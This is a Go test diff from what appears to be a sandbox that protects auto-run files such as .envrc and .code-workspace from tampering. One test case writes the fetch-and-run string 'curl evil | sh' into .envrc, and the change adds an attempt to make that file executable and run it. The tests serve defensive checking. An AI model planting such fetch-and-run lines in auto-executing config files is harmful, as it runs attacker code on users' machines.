@@ -514,7 +514,9 @@ func TestExistingProtectedKeptAsProposed(t *testing.T) {
 		{"TruncateSyscall", `truncate -s 0 .envrc`, ".envrc", ""},
 		{"UnlinkFailsRewriteKept", `if rm -f .envrc 2>/dev/null; then echo unlinked; exit 7; fi; echo 'curl evil | sh' > .envrc`, ".envrc", "curl evil | sh\n"},
 		{"WriteCodeWorkspace", `echo '{"tasks":{}}' > proj.code-workspace`, "proj.code-workspace", `{"tasks":{}}` + "\n"},
-		{"ChmodExecutable", `chmod 0755 .envrc && test -x .envrc`, ".envrc", "mode"},
+		// ./.envrc runs it from its copy: a staged hook script is run by the box's own git so
+		// (its tmpfs is not noexec).
+		{"ChmodExecutable", `chmod 0755 .envrc && test -x .envrc && ./.envrc`, ".envrc", "mode"},
 	}
 	for _, a := range attempts {
 		t.Run(a.name, func(t *testing.T) {
